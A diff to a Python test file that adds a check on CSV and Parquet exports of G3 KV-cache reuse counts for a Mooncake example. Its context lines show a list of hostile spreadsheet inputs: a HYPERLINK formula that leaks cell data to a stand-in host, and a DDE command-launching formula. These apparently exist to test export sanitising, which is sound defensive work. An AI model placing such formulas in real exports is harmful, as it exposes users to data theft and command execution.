@@ -84,6 +84,25 @@ def test_exports_hold_the_report_rows(cli: Callable[..., Any], tmp_path: Path) -
     assert json.loads(first["routing_history"]) == rows[0]["routing_history"]
 
 
+def test_exports_split_the_reuse_down_to_g3(cli: Callable[..., Any], tmp_path: Path) -> None:
+    """g3-restore-mooncake: the CSV and Parquet exports carry the G3 share of the first
+    admission's reuse (8 tokens of the last request came up from G3); without G3 the column
+    is empty."""
+    example = REPO / "examples" / "g3-restore-mooncake.yaml"
+    rows_csv, plain_csv = tmp_path / "g3.csv", tmp_path / "plain.csv"
+    assert cli("run", str(example), "-q", "--export", str(rows_csv)).code == 0
+    assert cli("run", str(example), "-q", "--export", str(plain_csv), "--set",
+               "engine.workers.aggregated.kv_cache.g3_offload=null").code == 0
+    key = "first_admission_g3_reused_input_tokens"
+    for path, expected in ((rows_csv, ["0", "0", "0", "8"]), (plain_csv, ["", "", "", ""])):
+        with path.open(newline="") as f:
+            assert [r[key] for r in csv.DictReader(f)] == expected
+    pq = pytest.importorskip("pyarrow.parquet")
+    out = tmp_path / "g3.parquet"
+    assert cli("run", str(example), "-q", "--export", str(out)).code == 0
+    assert pq.read_table(out).column(key).to_pylist() == [0, 0, 0, 8]
+
+
 HOSTILE_IDS = ["=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(A1:A9)", "\ttab", "\rcr first", "cr\rinside", "lf\ninside",
                'say "hi"', "a,b", "a;=1+2", "plain", "", "0", "'quoted", "=", "\u00e9t\u00e9"]
